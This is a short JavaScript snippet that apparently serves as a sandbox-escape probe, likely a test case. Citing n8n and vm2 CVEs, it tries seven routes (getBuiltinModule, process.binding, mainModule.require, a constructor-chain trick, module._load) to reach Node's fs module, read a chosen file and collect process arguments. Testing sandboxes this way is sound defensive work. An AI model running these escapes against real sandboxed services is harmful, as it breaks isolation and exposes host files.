// Tries: process.getBuiltinModule, process.binding, process.mainModule and a require made from them.
// Origin: n8n CVE-2025-68613 (process.mainModule.require); vm2 CVE-2026-47140 (`process` as a module).

const found = [];
for (const get of [
  () => process.getBuiltinModule("fs"),
  () => process.getBuiltinModule("module").createRequire("file:///x.js")("fs"),
  () => process.mainModule.require("fs"),
  () => process.binding("natives"),
  () => process.constructor.constructor("return process")().getBuiltinModule("fs"),
  () => require("fs"),
  () => module.constructor._load("fs"),
]) {
  try {
    found.push(get().readFileSync(input.file, "utf8"), process.argv);
  } catch (error) {
    found.push(`${error}`);
  }
}
return found;
